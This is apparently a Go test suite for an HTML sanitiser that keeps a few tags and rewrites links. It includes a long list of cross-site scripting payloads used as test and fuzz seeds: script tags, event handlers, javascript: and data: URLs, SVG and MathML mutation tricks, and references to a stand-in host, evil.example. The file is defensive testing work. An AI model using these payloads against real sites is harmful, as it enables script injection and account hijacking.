package content

import (
	"regexp"
	"strings"
	"testing"
	"unicode/utf8"

	"golang.org/x/net/html"
)

// What survives, and as what.
func TestSanitise(t *testing.T) {
	for in, want := range map[string]string{
		"":      "",
		"hello": "hello",
		"a <em>b</em> <strong>c</strong> <code>d</code>":                      "a <em>b</em> <strong>c</strong> <code>d</code>",
		"<p>one</p><p>two<br>three</p>":                                       "<p>one</p><p>two<br>three</p>",
		"<blockquote>q</blockquote>a":                                         "<blockquote>q</blockquote>a",
		"<b>x</b><i>y</i>":                                                    "<strong>x</strong><em>y</em>",
		"a\n  b\t c":                                                          "a b c",
		"<p> a </p>\n<p> b </p>":                                              "<p>a</p><p>b</p>",
		"<pre>a\n  b</pre>":                                                   "<code>a<br>  b</code>",
		"<div>a</div><div><br></div><div>b</div>":                             "a<br><br>b",
		"<div>a<br></div><div>b</div>":                                        "a<br>b",
		"<ul><li>a</li><li>b</li></ul>c":                                      "• a<br>• b<br>c",
		"<table><tr><td>a</td><td>b</td></tr><tr><td>c</td></tr></table>":     "a b<br>c",
		"1 < 2 && 3 > 2":                                                      "1 &lt; 2 &amp;&amp; 3 &gt; 2",
		"&lt;script&gt;alert(1)&lt;/script&gt;":                               "&lt;script&gt;alert(1)&lt;/script&gt;",
		`<em class="x" style="position:fixed" onclick="alert(1)" id=a>b</em>`: "<em>b</em>",
		`<a href="https://example.com/x">here</a>!`:                           "here (https://example.com/x)!",
		`<a href="https://example.com/">https://example.com/</a>`:             "https://example.com/",
		`<a href="javascript:alert(1)">here</a>`:                              "here",
		`<a href="https://evil.example/">https://bank.example/</a>`:           "https://bank.example/ (https://evil.example/)",
		`<img src=x onerror=alert(1) alt="a cat">`:                            "a cat",
		"<font color=red>a</font><u>b</u>":                                    "ab",
		"text<!-- comment --> more":                                           "text more",
		"x<br/>y<br />z":                                                      "x<br>y<br>z",
		"a<br><br>":                                                           "a",
		"<p></p><em></em><blockquote> </blockquote>":                          "",
		// Tags that overlap, never end or never began.
		"<em>a<strong>b</em>c</strong>": "<em>a<strong>b</strong></em><strong>c</strong>",
		"<em>a<p>b</em>c":               "<em>a</em><p><em>b</em>c</p>",
		"<p>a<blockquote>b</p>c":        "<p>a</p><blockquote>bc</blockquote>",
		"<p><em>a<p>b":                  "<p><em>a</em></p><p><em>b</em></p>",
		"</p></em></blockquote></div>a": "a",
		"<em>a<em>b</em>c</em>d":        "<em>abc</em>d",
		"<strong>never ends":            "<strong>never ends</strong>",
		"a<em":                          "a",
		"a<":                            "a&lt;",
		"<blockquote>" + strings.Repeat("<blockquote>", 20) + "x": strings.Repeat("<blockquote>", 8) + "x" + strings.Repeat("</blockquote>", 8),
		// Direction is part of a text; pages isolate it.
		"a\u202eb\u202c\u2067c": "a\u202eb\u202c\u2067c",
		"a\x00b\x07c\xffd":      "abc\uFFFDd",
	} {
		if got := Sanitise(in); got != want {
			t.Errorf("Sanitise(%q)\n got %q\nwant %q", in, got, want)
		}
	}
}

// hostile is what has got through one sanitiser or another: scripts, handlers, addresses with scripts, data, foreign elements, unfinished
// and nested tags, entities in many spellings.
var hostile = []string{
	`<script>alert(1)</script>`, `<SCRIPT SRC=//evil.example/x.js></SCRIPT>`, `<scr<script>ipt>alert(1)</scr</script>ipt>`, `<script>alert(1)`, `<script/>alert(1)`,
	`<script x="</script>">alert(1)</script>`, `<<script>script>alert(1)<</script>/script>`, "<script\x00>alert(1)</script>", `<ScRiPt >alert(1)</sCrIpT >`,
	`<img src=x onerror=alert(1)>`, `<img src="x" onerror="alert(1)"`, `<img """><script>alert(1)</script>">`, `<img src=x:x onerror\x09=alert(1)>`, `<image src=x onerror=alert(1)>`,
	`<svg onload=alert(1)>`, `<svg><script>alert(1)</script></svg>`, `<svg><a xlink:href="javascript:alert(1)"><text>x</text></a>`, `<svg/onload=alert(1)//`,
	`<svg><style><img src=x onerror=alert(1)></style></svg>`, `<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">`, `<svg><![CDATA[><image xlink:href="]]><img src=x onerror=alert(1)//">`,
	`<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">`, `<math><annotation-xml encoding="text/html"><style><img src=x onerror=alert(1)></style>`,
	`<a href="javascript:alert(1)">x</a>`, `<a href="jAvAsCrIpT:alert(1)">x</a>`, `<a href="java&#x0A;script:alert(1)">x</a>`, `<a href="&#106;avascript:alert(1)">x</a>`, `<a href=" javascript:alert(1)">x</a>`,
	`<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>`, `<a href="vbscript:msgbox(1)">x</a>`, `<a href="https://h/&quot;onmouseover=alert(1)">x</a>`, `<a href="http://h/><script>alert(1)</script>">x</a>`,
	`<iframe src="javascript:alert(1)"></iframe>`, `<iframe srcdoc="<script>alert(1)</script>">`, `<object data="data:text/html,<script>alert(1)</script>">`, `<embed src=//evil.example/x.swf>`,
	`<form action=//evil.example/><input name=p><button>ok</button></form>`, `<input autofocus onfocus=alert(1)>`, `<textarea><img src=x onerror=alert(1)></textarea>`, `<select><style></select><img src=x onerror=alert(1)></style>`,
	`<style>@import'//evil.example/x.css';</style>`, `<link rel=stylesheet href=//evil.example/x.css>`, `<base href=//evil.example/>`, `<meta http-equiv=refresh content="0;url=//evil.example/">`,
	`<p style="background:url(javascript:alert(1))">x</p>`, `<em onmouseover=alert(1)>x</em>`, `<br onfocus=alert(1) autofocus tabindex=1>`, `<code/onclick=alert(1)>x</code>`, `<blockquote cite="javascript:alert(1)">x</blockquote>`,
	`<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>`, `<template><script>alert(1)</script></template>`, `<xmp><img src=x onerror=alert(1)></xmp>`, `<plaintext><img src=x onerror=alert(1)>`,
	`<title><img src=x onerror=alert(1)></title>`, `<!--><img src=x onerror=alert(1)>-->`, `<!--[if gte IE 4]><script>alert(1)</script><![endif]-->`, `<?xml version="1.0"?><x/>`, `<!DOCTYPE x [<!ENTITY y "z">]>&y;`,
	`<details open ontoggle=alert(1)>x</details>`, `<video><source onerror=alert(1)></video>`, `<audio src=x onerror=alert(1)>`, `<marquee onstart=alert(1)>x</marquee>`, `<body onload=alert(1)>`, `<html onmouseover=alert(1)>x`,
	`<em><em><em><script>`, `<p<p<p>`, `<em <script>alert(1)</script>>x`, `</script><script>alert(1)`, `&lt;img src=x onerror=alert(1)&gt;`, `&amp;lt;script&amp;gt;`, `<x onclick=alert(1)>x</x>`, "<em\nonclick\n=\nalert(1)\n>x</em>",
	`<a href="https://h/" target=_blank ping=//evil.example/ download>x</a>`, "\u202e<em>x</em>", `<strong style=display:none>hidden</strong>`, `<div id=__proto__ name=cookie>x</div>`, `{{constructor.constructor('alert(1)')()}}`, "<em>\u2028</em>",
	`<img src=x alt="<script>alert(1)</script>">`, `<img alt="&lt;script&gt;alert(1)&lt;/script&gt;">`, `<a href="http://h/` + strings.Repeat("a", 5000) + `">x</a>`,
}

// safe is all the markup there may be.
var safe = regexp.MustCompile(`^(?:[^<>]|<(?:em|strong|code|p|blockquote|br)>|</(?:em|strong|code|p|blockquote)>)*$`)

func TestHostile(t *testing.T) {
	for _, in := range hostile {
		check(t, in)
		check(t, "<em>"+in)
		check(t, in+"</em>"+in)
		check(t, html.EscapeString(in))
	}
}

// check holds for every input.
func check(t *testing.T, in string) {
	t.Helper()
	out := Sanitise(in)
	switch {
	case !safe.MatchString(out):
		t.Fatalf("Sanitise(%q) = %q", in, out)
	case !utf8.ValidString(out):
		t.Fatalf("Sanitise(%q) is no UTF-8: %q", in, out)
	case policy().Sanitize(out) != out:
		t.Fatalf("Sanitise(%q) = %q, which a second look changes", in, out)
	}
	if again := Sanitise(out); again != out {
		t.Fatalf("Sanitise(%q) = %q, and again %q", in, out, again)
	}
	// A browser's parser sees what is written: elements that are closed in order.
	var stack []string
	z := html.NewTokenizer(strings.NewReader(out))
	for kind := z.Next(); kind != html.ErrorToken; kind = z.Next() {
		switch t2 := z.Token(); {
		case kind == html.StartTagToken && t2.Data != "br":
			stack = append(stack, t2.Data)
		case kind == html.EndTagToken:
			if len(stack) == 0 || stack[len(stack)-1] != t2.Data {
				t.Fatalf("Sanitise(%q) = %q: </%s> ends %v", in, out, t2.Data, stack)
			}
			stack = stack[:len(stack)-1]
		}
	}
	if len(stack) > 0 {
		t.Fatalf("Sanitise(%q) = %q leaves %v open", in, out, stack)
	}
	if text := Plain(Sanitise(in)); !utf8.ValidString(text) || len(text) > 32*(len(in)+1) {
		t.Fatalf("Plain(%q) = %q", in, text)
	}
}

func TestPlain(t *testing.T) {
	for in, want := range map[string]string{
		"hello":                                     "hello",
		"<p>one</p><p>two<br>three</p>":             "one\n\ntwo\nthree",
		"a<br><br>b":                                "a\n\nb",
		"<blockquote>a<br>b</blockquote>c":          "> a\n> b\n\nc",
		"<blockquote><p>a</p><p>b</p></blockquote>": "> a\n>\n> b",
		"<blockquote>a<blockquote>b</blockquote></blockquote>c": "> a\n>\n> > b\n\nc",
		"x<p>a</p>y":                             "x\n\na\n\ny",
		"<em>a</em> &amp; <code>b &lt; c</code>": "a & b < c",
		"<pre>a\n  b</pre>":                      "a\n  b",
		"<script>x</script>":                     "",
		"a&nbsp;b":                               "a b",
	} {
		if got := Plain(Sanitise(in)); got != want {
			t.Errorf("Plain(%q) = %q, want %q", in, got, want)
		}
	}
	for _, text := range []string{"a\nb\n\nc", "<b> & \"c\"", "x", "> not a quote\nof html"} {
		if got := Plain(Sanitise(Escape(text))); got != text {
			t.Errorf("%q became %q", text, got)
		}
	}
}

// A body that would cost much is cut, and costs little.
func TestLarge(t *testing.T) {
	for _, in := range []string{
		strings.Repeat("<em><strong><code><p>", 1<<16), strings.Repeat("<blockquote>", 1<<17), strings.Repeat("<", 2*MaxText), strings.Repeat("<em>a", 1<<17),
		strings.Repeat("é", MaxText), strings.Repeat("<p>é", 1<<18), strings.Repeat("</p>", 1<<18), "<em " + strings.Repeat("a=b ", 1<<18), strings.Repeat("<a href=http://h/>x", 1<<16),
	} {
		if out := Sanitise(in); len(out) > 16*MaxText || !safe.MatchString(out) {
			t.Errorf("%.20q became %d bytes: %.40q", in, len(out), out)
		}
	}
}

func FuzzSanitise(f *testing.F) {
	for _, s := range hostile {
		f.Add(s)
	}
	f.Fuzz(check)
}
